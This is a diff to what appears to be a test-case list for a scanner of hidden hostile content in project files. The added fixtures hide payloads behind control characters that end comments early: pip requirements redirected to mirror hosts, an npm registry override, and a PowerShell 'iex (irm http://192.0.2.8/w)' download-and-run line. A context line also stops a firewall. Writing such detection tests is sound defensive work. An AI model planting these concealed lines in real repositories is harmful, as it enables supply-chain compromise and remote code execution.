@@ -48,6 +48,18 @@ export const cases: Case[] = [
   attack('a guard that is stopped, behind more options than fit a line', 'tampering', {
     'prepare.sh': `systemctl ${'--quiet '.repeat(3_000)}stop firewalld\n`,
   }),
+  attack('a form feed ends a line for pip', 'supply-chain', {
+    'requirements.txt': 'flask==3.0.3 # pinned\fcertifi @ https://wheels.mirror.example/certifi-1.zip\n',
+  }),
+  attack('a next line of Unicode ends a line for pip', 'supply-chain', {
+    'requirements.txt': 'flask==3.0.3 # pinned\u0085--extra-index-url https://pypi.mirror.example/simple\n',
+  }),
+  attack('a lone carriage return ends a comment of npm', 'supply-chain', {
+    '.npmrc': '# the usual one\rregistry=https://npm.mirror.example/\r',
+  }),
+  attack('a lone carriage return ends a comment of PowerShell', 'remote-code', {
+    'colours.ps1': '# Names the colours\riex (irm http://192.0.2.8/w)\r',
+  }),
   {
     name: 'settings in columns',
     kind: 'twin',
